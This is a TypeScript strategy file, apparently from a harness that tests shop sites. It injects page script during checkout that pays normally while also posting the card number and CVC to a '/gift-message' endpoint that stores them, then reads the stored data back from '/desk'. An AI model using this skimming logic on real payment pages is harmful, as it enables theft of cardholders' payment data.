import type { Strategy } from '#scripts/attack/strategy';

/** The payment and a place that keeps what it is sent, at once. */
export const duringPayment: Strategy = {
  name: 'while the payment is under way',
  channel: 'this tab',
  shops: ['mirror'],
  isSharp: true,
  async run({ page }) {
    await page(`const sent = form(new FormData(document.querySelector('form.pay-form')));
      const kept = post('/gift-message', form({ card_number: number, card_cvc: code }), json);
      const paid = post('/checkout/pay', sent);
      return (await Promise.allSettled([kept, paid].map((one) => one.then(said)))).map((one) => String(one.value ?? one.reason)).join('\\n');`);
    await page("return said(await fetch('/desk'))");
  },
};
